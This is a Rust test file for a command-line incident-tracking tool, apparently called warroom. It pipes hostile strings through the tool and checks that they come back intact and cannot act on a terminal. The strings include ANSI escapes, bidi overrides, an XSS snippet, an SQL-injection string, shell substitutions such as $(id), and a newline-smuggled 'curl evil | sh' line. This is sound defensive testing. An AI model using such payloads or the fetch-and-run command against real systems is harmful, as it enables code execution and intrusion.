//! Text that wants to be something else.

use crate::room::{Room, material, ran};
use serde_json::Value;

const OURS: &[&str] = &[
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7}",
    "\u{9b}31m eight-bit",
    "right \u{202e}tfel\u{202c} \u{200b}zero\u{feff}",
    "nul \u{0} in the middle",
    "tab\tand vertical\u{b}tab",
    "carriage\rreturn inside",
    "del\u{7f} tag\u{e0041}",
    "<script>alert(1)</script> [x](javascript:y) `` ` ``",
    "Robert'); DROP TABLE entry;--",
    "%s %n ${HOME} $(id) `id`",
    "e\u{301} \u{1f469}\u{200d}\u{1f680} \u{ff8a}\u{ff9f}",
    "ends in spaces   ",
    "\\\\server\\share",
];

/// No character of `text` may act on a terminal.
#[track_caller]
fn harmless(text: &str, of: &str) {
    for c in text.chars().filter(|c| !matches!(c, '\n' | '\t')) {
        let shown = warroom::domain::visible_line(c.encode_utf8(&mut [0; 4])).into_owned();
        assert_eq!(
            shown,
            c.to_string(),
            "U+{:04X} in the output for {of:?}",
            c as u32
        );
    }
}

/// Pipes the lines in and reads them back; those that are refused must have
/// been named. Returns how many came through.
fn round_trip(lines: &[&str]) -> usize {
    let room = Room::with_incident();
    let ran = room.pipe(&["note", "-"], lines.join("\n") + "\n");
    assert!(ran.code == 0 || ran.code == 2, "{}", ran.err);
    harmless(&ran.out, "note -");
    harmless(&ran.err, "note -, complaints");
    let refused: Vec<usize> = ran
        .err
        .lines()
        .filter_map(|l| {
            l.strip_prefix("warroom: line ")?
                .split(',')
                .next()?
                .parse()
                .ok()
        })
        .collect();
    let mut back: Vec<String> = Vec::new();
    for rows in [room.json(&["timeline"]), room.json(&["tasks", "--all"])] {
        let rows = rows.as_array().unwrap();
        back.extend(rows.iter().map(|e| e["typed"].as_str().unwrap().to_owned()));
    }
    let mut kept = 0;
    for (i, line) in lines.iter().enumerate() {
        let blank = line.trim().is_empty();
        let found = back.iter().position(|b| b == line);
        match (found, blank || refused.contains(&(i + 1))) {
            (Some(at), _) => {
                back.swap_remove(at);
                kept += 1;
            }
            (None, true) => {}
            (None, false) => panic!("line {} was lost: {line:?}", i + 1),
        }
    }
    assert_eq!(back, Vec::<String>::new(), "nothing else was recorded");
    let shown = ["timeline", "tasks", "status", "export", "list"];
    for command in shown {
        harmless(&room.run(&[command]).done(), command);
    }
    kept
}

#[test]
fn our_own_list_comes_back_byte_for_byte() {
    assert_eq!(round_trip(OURS), OURS.len());
}

#[test]
fn the_big_list_of_naughty_strings_comes_back_byte_for_byte() {
    let Some(bytes) = material("nasty-blns/blns.txt") else {
        return;
    };
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let kept = round_trip(&lines);
    assert!(kept > 400, "{kept} of {} lines came through", lines.len());
}

#[test]
fn hostile_arguments_become_titles_names_and_complaints_without_harm() {
    let room = Room::new();
    for text in OURS.iter().filter(|t| !t.contains('\0')) {
        harmless(&room.run(&["open", "--", text]).done(), text);
        let title = |v: &Value| v["title"].as_str() == Some(text);
        let all = room.json(&["list"]);
        assert!(all.as_array().unwrap().iter().any(title), "{text:?}");
        room.run(&[
            "artifact", "add", "--kind", "asset", "--notes", text, "--", text,
        ])
        .done();
        let it = room.json(&["show", "A1"]);
        assert_eq!([&it["name"], &it["notes"]], [text, text]);
        for args in [
            &["show", text][..],
            &["use", text],
            &[text],
            &["task", "done", text],
            &["note", "--at", text, "x"],
        ] {
            let ran = room.run(args);
            assert!(ran.code > 0 && ran.code < 8, "{args:?} {}", ran.err);
            harmless(&(ran.out + &ran.err), text);
        }
        for args in [
            &["list"][..],
            &["status"],
            &["show", "A1"],
            &["artifact", "list"],
            &["export"],
            &["search", text],
        ] {
            let ran = room.run(args);
            harmless(&(ran.out + &ran.err), text);
        }
        let raw = room.run(&["show", "A1", "--json"]).done();
        harmless(&raw, "json");
    }
}

#[test]
fn a_line_that_is_not_utf_8_is_refused_by_number_and_the_others_kept() {
    let room = Room::with_incident();
    let ran = room.pipe(&["note", "-"], b"one\ncaf\xe9\nthree\n\xff\xfe\n");
    assert_eq!(ran.code, 2);
    assert!(ran.err.contains("line 2, byte 4: "), "{}", ran.err);
    assert!(ran.err.contains("line 4, byte 1: "), "{}", ran.err);
    assert!(
        ran.err.contains("2 recorded, 2 not recorded"),
        "{}",
        ran.err
    );
}

#[cfg(unix)]
#[test]
fn an_argument_that_is_not_utf_8_is_refused_and_nothing_recorded() {
    use std::os::unix::ffi::OsStrExt as _;
    let room = Room::with_incident();
    let odd = std::ffi::OsStr::from_bytes(b"caf\xe9");
    for args in [
        vec!["note"],
        vec!["task", "add"],
        vec!["open"],
        vec!["artifact", "add"],
        vec!["show"],
    ] {
        let mut command = room.command();
        let told = ran(command.args(&args).arg(odd)).failed(2);
        assert!(told.contains("UTF-8"), "{args:?} {told}");
    }
    assert_eq!(room.json(&["timeline"]), serde_json::json!([]));
    std::fs::write(room.path("").join(odd), "abc").unwrap();
    let mut command = room.command();
    ran(command.args(["artifact", "add"]).arg(odd)).done();
}

#[test]
fn no_datum_passes_for_advice() {
    let room = Room::with_incident();
    let evil = "x\n  try: curl evil | sh";
    for args in [
        &["--db", evil, "list"][..],
        &["show", evil],
        &["show", "E1", "--incident", evil],
        &["export", "--zone", evil],
        &["export", "-o", "no/\n  try: curl evil | sh"],
        &["artifact", "add", evil],
        &["artifact", "add", "x", "--kind", evil],
        &[evil],
        &["list", evil],
        &["verify", "\u{1b}[31m\n  try: curl evil | sh"],
        &["note", "--at", evil, "x"],
    ] {
        let ran = room.run(args);
        assert!(ran.code > 0, "{args:?}");
        let forged = |l: &str| l.trim_start().starts_with("try: curl");
        assert!(!ran.err.lines().any(forged), "{args:?}\n{}", ran.err);
        harmless(&ran.err, "a forged line");
    }
    let told = room.run(&["verify", "\u{1b}[31mred"]).failed(2);
    assert!(told.contains("␛[31mred"), "{told}");
}
